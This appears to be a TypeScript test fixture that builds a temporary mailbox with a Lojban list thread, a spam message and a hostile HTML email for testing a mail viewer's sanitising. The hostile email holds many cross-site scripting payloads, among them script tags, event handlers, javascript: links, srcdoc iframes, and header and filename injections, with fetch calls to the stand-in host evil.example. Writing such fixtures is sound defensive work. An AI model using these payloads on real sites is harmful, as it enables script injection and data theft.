import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'

/** Script for hostile messages: records that it ran and sends a request to another site. */
const RUNS = (how: string) => `window.ran=(window.ran||[]).concat('${how}');fetch('http://evil.example/${how}')`

const HOSTILE_HTML = `<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">
<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/b.png)}</style>
<link rel="stylesheet" href="http://evil.example/c.css"><script>${RUNS('script')}</script></head>
<body onload="${RUNS('onload')}"><img src="x" onerror="${RUNS('onerror')}"><svg onload="${RUNS('svg')}"><script>${RUNS('svgscript')}</script></svg>
<iframe srcdoc="<script>parent.${RUNS('frame')}</script>"></iframe><object data="http://evil.example/o"></object>
<math><mtext><img src=1 onerror="${RUNS('math')}"></mtext></math><form action="http://evil.example/"><input autofocus onfocus="${RUNS('focus')}"></form>
<a href="javascript:${RUNS('link')}">hostile words to press</a> <a href="http://evil.example/next">another site</a>
<img src="http://evil.example/pixel.gif"><template><script>${RUNS('template')}</script></template></body></html>`

const MARKUP = `<img src=x onerror="window.ran=['header']">`

const HOSTILE = `From: "${MARKUP.replaceAll('"', '')}" <evil@example.org>
To: ${MARKUP.replaceAll('"', "'")} <list@lists.example.org>
Date: Thu, 05 Mar 2009 10:00:00 +0000
Subject: hostile ${MARKUP} javascript:alert(1)
Message-ID: <hostile@e2e.example.org>
List-Id: <hostile.lists.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=part

--part
Content-Type: text/html; charset=utf-8

${HOSTILE_HTML}

--part
Content-Type: text/html; charset=utf-8; name="page.html"
Content-Disposition: attachment; filename="<script>window.ran=['name']</script>.html"

${HOSTILE_HTML}
--part
Content-Type: image/svg+xml
Content-Disposition: inline; filename="picture.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="${RUNS('picture')}"/>
--part--
`

const PATCH = `--- a/word
+++ b/word
@@ -1 +1 @@
-klama
+litru
`

/** A thread of three messages, the last of which changes the subject and attaches a patch. */
const THREAD = [
  `From: Alis <alis@example.org>
To: lojban-list@lists.example.org
Date: Mon, 02 Mar 2009 10:00:00 +0000
Subject: [lojban] The route of klama
Message-ID: <first@e2e.example.org>
List-Id: <lojban.lists.example.org>

Does x4 of klama have to be a road?

-- 
Alis
`,
  `From: Bab <bab@example.org>
To: lojban-list@lists.example.org
Date: Tue, 03 Mar 2009 10:00:00 +0000
Subject: Re: [lojban] The route of klama
Message-ID: <second@e2e.example.org>
In-Reply-To: <first@e2e.example.org>
List-Id: <lojban.lists.example.org>

Alis wrote:
> Does x4 of klama have to be a road?
> one
> two
> three
> four
> five

No: any point on the way will do. Write to bab@example.org.
`,
  `From: Noras <noras@example.org>
To: lojban-list@lists.example.org
Date: Wed, 04 Mar 2009 10:00:00 +0000
Subject: litru instead
Message-ID: <third@e2e.example.org>
In-Reply-To: <second@e2e.example.org>
List-Id: <lojban.lists.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=utf-8

Then litru is the better word, see the patch.
--b
Content-Type: text/x-patch; name=word.patch
Content-Disposition: attachment; filename=word.patch

${PATCH}
--b--
`,
]

const SPAM = `From: Seller <seller@example.org>
Date: Fri, 06 Mar 2009 10:00:00 +0000
Subject: Cheap cmavo
Message-ID: <spam@e2e.example.org>

Buy three cmavo and pay for two.
`

/** Runs `work` with a mailbox file that contains a thread, an attack message, and spam. */
export function withMailbox(work: (file: string) => void) {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'vlacku-mails-'))
  const file = path.join(folder, 'e2e.mbox')
  const messages = [...THREAD, HOSTILE, SPAM].map((text) => `From e2e Mon Mar  2 10:00:00 2009\n${text}\n`)
  fs.writeFileSync(file, messages.join(''))
  try {
    work(file)
  } finally {
    fs.rmSync(folder, { recursive: true })
  }
}
